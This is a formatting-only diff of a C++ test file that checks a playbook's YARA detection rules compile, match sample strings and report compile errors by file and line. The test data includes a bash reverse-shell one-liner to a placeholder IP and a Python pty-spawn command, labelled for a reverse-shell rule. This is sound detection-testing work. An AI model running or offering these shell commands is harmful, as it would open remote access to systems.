@@ -32,7 +32,10 @@ TEST_CASE("the playbook's YARA rules compile and match what their meta says") {
   auto rules = YaraRules::compile(Playbook::load());
   CHECK(rules->rule_count() >= 12);
   YaraScanner s(rules);
-  struct Row { const char* text; const char* rule; };
+  struct Row {
+    const char* text;
+    const char* rule;
+  };
   const Row rows[] = {
       {"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "tool_reverse_shell"},
       {"python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "tool_reverse_shell"},
@@ -59,7 +62,8 @@ TEST_CASE("the playbook's YARA rules compile and match what their meta says") {
 
 TEST_CASE("a YARA compile error names the file and line") {
   try {
-    YaraRules::compile_sources({{"builtin:rules/broken.yar", "rule ok { condition: true }\nrule bad { strings: $a = \"x\" condition: $b }\n"}});
+    YaraRules::compile_sources({{"builtin:rules/broken.yar",
+                                 "rule ok { condition: true }\nrule bad { strings: $a = \"x\" condition: $b }\n"}});
     FAIL("compiled a broken rule");
   } catch (const RuntimeError& e) {
     CHECK(std::string(e.what()).find("broken.yar:2") != std::string::npos);
